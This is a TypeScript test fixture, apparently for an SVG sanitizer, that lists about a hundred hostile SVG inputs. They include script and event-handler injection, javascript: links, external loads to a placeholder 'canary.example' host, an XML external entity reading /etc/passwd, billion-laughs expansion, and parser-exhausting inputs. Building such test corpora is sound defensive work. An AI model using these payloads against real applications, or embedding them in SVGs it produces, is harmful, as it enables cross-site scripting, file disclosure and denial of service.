/** A host that must never be asked. Tests put the address of their own server in its place. */
export const canaryHost = 'canary.example'
const url = `http://${canaryHost}/x`
/** What stands beside each attack, so that a drawing is left. */
const shape = '<path d="M8 8h48v48h-48z" fill="#8a3b12"/>'
const root = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 64 64"${attributes ? ` ${attributes}` : ''}>${inside}${shape}</svg>`
const entity = '&#106;avascript:alert(1)'

/** Attributes of SVG and HTML that take an address or code somewhere. */
export const everyAttribute =
  'd fill stroke transform opacity stroke-width viewBox width height x y r cx id class style href xlink:href src data action formaction onclick onload onbegin filter mask clip-path marker-start cursor points offset stop-color gradientTransform begin from to values attributeName xml:base xmlns role color font-family requiredFeatures systemLanguage'.split(
    ' ',
  )

/** Drawings that want to run, load, read, hide or exhaust something, each with what it tries. */
export const hostileSvgs: Record<string, string> = {
  script: root('<script>alert(1)</script>'),
  'script in CDATA': root('<script><![CDATA[alert(1)]]></script>'),
  'script from elsewhere': root(`<script href="${url}"/><script xlink:href="${url}"/><script src="${url}"/>`),
  'script as a module': root(`<script type="module">import "${url}"</script>`),
  'script in capitals': root('<SCRIPT>alert(1)</SCRIPT><ScRiPt>alert(1)</sCrIpT>'),
  'script of another namespace': root('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  'script by a default namespace': root('<g xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></g>'),
  'script within a script': root('<scr<script>ipt>alert(1)</scr</script>ipt>'),
  'script that is not closed': `<svg viewBox="0 0 64 64">${shape}<script>alert(1)`,
  'script in a title': root('<title><script>alert(1)</script></title>'),
  'script in a title that ends early': root('<title>a</title><script>alert(1)</script><title>b</title>'),
  'script in the title’s CDATA': root('<title><![CDATA[</title><script>alert(1)</script>]]></title>'),
  'script as entities in a title': root('<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>'),
  'markup of HTML in a desc': root('<desc><img src=x onerror=alert(1)></img><iframe srcdoc="x"/></desc>'),
  'script after the end': `${root('')}<script>alert(1)</script>`,
  'a second root': `${root('')}${root('<script>alert(1)</script>', 'onload="alert(1)"')}`,
  'a root in the root': root(`<svg onload="alert(1)"><script>alert(1)</script>${shape}</svg>`),
  'handlers on the root': root('', 'onload="alert(1)" onerror="alert(1)" onfocusin="alert(1)"'),
  'handlers on a shape': `<svg viewBox="0 0 64 64"><path d="M0 0h64v64z" onclick="alert(1)" onmouseover='alert(1)' onpointerenter="alert(1)"/></svg>`,
  'handlers in capitals': `<svg viewBox="0 0 64 64"><path d="M0 0h64v64z" ONCLICK="alert(1)" OnLoad="alert(1)"/></svg>`,
  'handlers without quotes': '<svg viewBox="0 0 64 64" onload=alert(1)><path d="M0 0h64v64z" onclick=alert(1) /></svg>',
  'handlers after slashes':
    '<svg/onload="alert(1)"/viewBox="0 0 64 64"><path/onclick="alert(1)"/d="M0 0h64v64z"/></svg>',
  'a value that breaks out': `<svg viewBox='0 0 64 64'><path d='M0 0h64v64z' fill='red"><script>alert(1)</script>'/><title>"&gt;&lt;script&gt;alert(1)</title></svg>`,
  'style element': root(`<style>@import url(${url}); path { fill: url(${url}) }</style>`),
  'style in CDATA': root(`<style><![CDATA[@import "${url}";]]></style>`),
  'style attribute': root(`<rect width="9" height="9" style="background:url(${url});fill:url(${url})"/>`),
  'a font from elsewhere': root(
    `<style>@font-face { font-family: a; src: url(${url}) }</style><text font-family="a">A</text>`,
  ),
  'a style sheet by instruction': `<?xml-stylesheet href="${url}" type="text/css"?>${root('')}`,
  'a transformation by instruction': `<?xml-stylesheet type="text/xsl" href="${url}"?>${root('')}`,
  'an instruction within': root('<?php echo 1 ?><?javascript alert(1)?>'),
  'link and meta of HTML': root(
    `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${url}"/><meta http-equiv="refresh" content="0;url=${url}"/>`,
  ),
  'base of HTML': root(`<base href="${url}"/>`),
  'xml:base': root(`<g xml:base="${url}"><path d="M0 0h9v9z" fill="url(x.svg#y)"/></g>`),
  image: root(`<image href="${url}" width="9" height="9"/>`),
  'image by xlink': root(`<image xlink:href="${url}" width="9" height="9"/>`),
  'image in a data address': root(
    '<image href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" width="9" height="9"/>',
  ),
  feImage: root(`<filter id="f"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
  'use of elsewhere': root(`<use href="${url}#y"/><use xlink:href="${url}#y"/>`),
  'use in a data address': root(`<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>`),
  'use a thousandfold': root(
    `<defs><g id="a0">${shape}</g>${Array.from({ length: 30 }, (_, n) => `<g id="a${n + 1}"><use href="#a${n}"/><use href="#a${n}"/></g>`).join('')}</defs><use href="#a30"/>`,
  ),
  'a symbol': root(`<symbol id="s"><script>alert(1)</script></symbol><use href="#s"/>`),
  foreignObject: root(
    `<foreignObject width="64" height="64"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${url}" onerror="alert(1)"/><iframe src="${url}"/></body></foreignObject>`,
  ),
  'foreignObject in lower case': root(`<foreignobject><iframe src="${url}"/></foreignobject>`),
  'media of HTML': root(
    `<video src="${url}" autoplay=""/><audio src="${url}"/><object data="${url}"/><embed src="${url}"/>`,
  ),
  'a link': root(`<a href="javascript:alert(1)" xlink:href="${url}"><rect width="9" height="9"/></a>`),
  'a link that animates': root(
    '<a><animate attributeName="href" values="javascript:alert(1)"/><rect width="9" height="9"/></a>',
  ),
  animate: root(
    '<rect width="9" height="9"><animate attributeName="fill" begin="0s" onbegin="alert(1)" to="red"/></rect>',
  ),
  set: root(
    `<rect width="9" height="9"><set attributeName="onclick" to="alert(1)"/><set attributeName="href" to="${url}"/></rect>`,
  ),
  animateTransform: root(
    '<rect width="9" height="9"><animateTransform attributeName="transform" onend="alert(1)" dur="1ms"/></rect>',
  ),
  animateMotion: root(`<rect width="9" height="9"><animateMotion><mpath href="${url}#p"/></animateMotion></rect>`),
  handler: root('<handler ev:event="load">alert(1)</handler><listener event="load" handler="#h"/>'),
  text: root(
    `<text x="1" y="9" font-family="${canaryHost}">canary<tspan>canary</tspan><textPath href="${url}#p">canary</textPath></text>`,
  ),
  switch: root('<switch><foreignObject requiredExtensions="x"><script>alert(1)</script></foreignObject></switch>'),
  'an external entity': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY canary SYSTEM "file:///etc/passwd">]>${root('<title>&canary;</title>')}`,
  'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY % canary SYSTEM "${url}"> %canary;]>${root('')}`,
  'a public doctype': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${url}">${root('')}`,
  'an entity that is a script': `<!DOCTYPE svg [<!ENTITY canary "<script>alert(1)</script>">]>${root('&canary;')}`,
  'a billion laughs': `<!DOCTYPE svg [<!ENTITY a "canary">${Array.from({ length: 9 }, (_, n) => `<!ENTITY b${n} "${`&${n === 0 ? 'a' : `b${n - 1}`};`.repeat(10)}">`).join('')}]>${root('<title>&b8;</title>')}`,
  'a default attribute by doctype': `<!DOCTYPE svg [<!ATTLIST path onclick CDATA "alert(1)">]>${root('')}`,
  'paint from elsewhere': root(`<rect width="9" height="9" fill="url(${url}#y)" stroke="url('${url}#y')"/>`),
  'paint with a fallback': root(`<rect width="9" height="9" fill="url(#none) url(${url})"/>`),
  'paint in other writings': root(`<rect width="9" height="9" fill="URL(${url})" stroke="u\\72l(${url})"/>`),
  'paint with a comment': root(`<rect width="9" height="9" fill="red/**/;background:url(${url})"/>`),
  'a gradient from elsewhere': root(
    `<linearGradient id="g" href="${url}#g" xlink:href="${url}#g"><stop offset="0" stop-color="url(${url})"/></linearGradient><rect width="9" height="9" fill="url(#g)"/>`,
  ),
  'a gradient by a foreign id': root('<rect width="9" height="9" fill="url(#canary)"/>'),
  'ids that are taken': root(
    '<linearGradient id="canary"/><linearGradient id="canary"/><rect width="9" height="9" fill="url(#canary)"/>',
  ),
  'ids that shadow': root('<g id="canary"/><linearGradient id="getElementById"><stop offset="0"/></linearGradient>'),
  'an id that breaks out': root(
    `<linearGradient id='canary"&gt;&lt;script&gt;alert(1)'><stop offset="0"/></linearGradient>`,
  ),
  filter: root(
    `<filter id="f"><feImage href="${url}"/><feFlood/></filter><g filter="url(#f)"><rect width="9" height="9" filter="url(${url}#f)"/></g>`,
  ),
  mask: root(`<mask id="m"><image href="${url}"/></mask><rect width="9" height="9" mask="url(${url}#m)"/>`),
  marker: root(
    `<marker id="m"><script>alert(1)</script></marker><line x2="9" stroke="red" marker-end="url(${url}#m)"/>`,
  ),
  pattern: root(`<pattern id="p"><image href="${url}"/></pattern><rect width="9" height="9" fill="url(#p)"/>`),
  'a clip path': root(
    `<clipPath id="c"><use href="${url}"/></clipPath><rect width="9" height="9" clip-path="url(${url}#c)"/>`,
  ),
  'a cursor': root(`<cursor href="${url}"/><rect width="9" height="9" cursor="url(${url}),auto"/>`),
  'a view and metadata': root(`<view id="v" onfocus="alert(1)"/><metadata><x onload="alert(1)">canary</x></metadata>`),
  'javascript in every attribute': root(
    everyAttribute
      .filter((name) => !name.includes(':') && name !== 'xmlns')
      .map((name) => `<rect width="9" height="9" data-n="1" ${name}="javascript:alert(1)"/>`)
      .join(''),
  ),
  'encoded javascript in every attribute': root(
    everyAttribute.map((name) => `<path d="M0 0h9v9z" ${name}="${entity}"/>`).join(''),
  ),
  'addresses in every attribute': root(everyAttribute.map((name) => `<circle r="4" ${name}="url(${url})"/>`).join('')),
  'a comment that hides': root('<!-- --><script>alert(1)</script><!-- -->'),
  'a comment that does not end': `<svg viewBox="0 0 64 64">${shape}<!-- <script>alert(1)</script>`,
  'a comment of HTML': root('<!--><script>alert(1)</script>-->'),
  'CDATA that hides': root('<![CDATA[<script>alert(1)</script>]]>'),
  'CDATA that ends twice': root('<title><![CDATA[a]]]]><![CDATA[><script>alert(1)</script>]]></title>'),
  'null bytes': root('<scr\0ipt>alert(1)</scr\0ipt><path d="M0 0h9\0v9" on\0click="alert(1)"/><title>a\0b</title>'),
  'characters that XML does not have': root('<title>a\u0001\u000b\ufffe\uffff\ud800b&#0;&#1;&#xFFFE;&#xD800;c</title>'),
  'a null byte by number': root('<path d="M0 0h9v9z" fill="red&#0;"/><script&#0;>alert(1)</script&#0;>'),
  'a prefix for everything': `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><s:script>alert(1)</s:script><s:path d="M0 0h9v9z"/></s:svg>`,
  'prefixes within': root('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'),
  'another namespace at the root': `<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 64 64"><script>alert(1)</script>${shape}</svg>`,
  'HTML at the root': `<html><body onload="alert(1)">${root('')}</body></html>`,
  'words of objects': root(
    '<constructor/><__proto__ onload="alert(1)"/><path d="M0 0h9v9z" __proto__="alert(1)" constructor="alert(1)"/>',
  ),
  'huge numbers': root(
    '<path d="M0 0h1e309v-1e309z"/><rect width="1e308" height="99999999999999999999"/><circle r="1e7"/>',
    'width="1e300"',
  ),
  'numbers that are none': root(
    '<rect width="NaN" height="Infinity"/><circle r="0x10"/><path d="M NaN Infinity L undefined null"/>',
  ),
  'a scale without end': root(
    '<g transform="scale(1e99)"><rect width="9" height="9" transform="matrix(1,0,0,1,1e400,0) scale(-1e-400)"/></g>',
  ),
  'digits without end': root(`<path d="M0 0h${'9'.repeat(20_000)}z"/><path d="M0.${'1'.repeat(20_000)} 0h9v9z"/>`),
  'numbers that regular expressions split in many ways': root(
    `<polyline points="${'1'.repeat(30_000)}x"/><path d="M${'1'.repeat(20_000)}x"/>`,
  ),
  'spaces without end': root(
    `<polygon points="1 1${' '.repeat(40_000)}x"/><rect width="${' '.repeat(9_000)}x" height="9"/>`,
  ),
  'a path bomb': root(`<path d="M0 0${'h9v9'.repeat(15_000)}"/>`),
  'a path of arcs that are none': root(
    '<path d="M0 0A1 1 0 2 1 9 9"/><path d="M0 0A0 0 0 01 9 9z"/><path d="L9 9"/><path d="M0"/>',
  ),
  'ten thousand elements': root('<g/>'.repeat(10_000)),
  'ten thousand levels': `<svg viewBox="0 0 64 64">${'<g>'.repeat(10_000)}${shape}`,
  'levels that are left out': `<svg viewBox="0 0 64 64">${'<x>'.repeat(10_000)}${shape}`,
  'ten thousand attributes': root(
    `<rect ${Array.from({ length: 5000 }, (_, n) => `a${n}="1"`).join(' ')} width="9" height="9"/>`,
  ),
  'an attribute ten thousand times': root(`<rect ${'onload="alert(1)" '.repeat(3000)}width="9" height="9"/>`),
  'a title without end': root(`<title>${'canary '.repeat(8000)}</title>`),
  'brackets without end': '<'.repeat(60_000),
  'ampersands without end': root(`<title>${'&'.repeat(50_000)}</title>`),
  'more than may be': root(' '.repeat(70_000)),
  'an end without a start': `</svg></g>${root('</g></svg></path>')}`,
  'nothing drawn': '<svg viewBox="0 0 64 64"><title>canary</title><g/><path/><circle r="0"/><path d="x"/></svg>',
  'only a start': '<svg',
  'no drawing': 'alert(1)',
  nothing: '',
}
